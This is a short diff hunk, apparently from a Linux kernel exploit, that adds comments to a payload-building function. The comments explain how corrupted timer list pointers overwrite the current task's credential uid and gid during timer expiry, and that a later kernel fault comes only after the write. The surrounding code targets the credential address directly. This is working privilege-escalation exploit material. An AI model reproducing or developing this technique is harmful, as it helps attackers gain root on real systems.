@@ -292,7 +292,10 @@ void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
 			/* At expiry collect_expired_timers()' hlist_move_list()
 			 * has just rewritten pprev (the timer heads its bucket):
 			 * only next is the attacker's, and next->pprev = pprev
-			 * puts the list head's address over uid and gid. */
+			 * puts the list head's address over uid and gid. Its
+			 * *pprev = next also makes next the list's head: the
+			 * walk then takes the cred as a timer and faults (an
+			 * oops in the softirq), after the write. */
 			set_entry(plan, 1, uid - sizeof(uintptr_t), "&current_cred.uid - 8");
 		} else {
 			/* Not yet armed: mod_timer() finds pprev set, detaches,
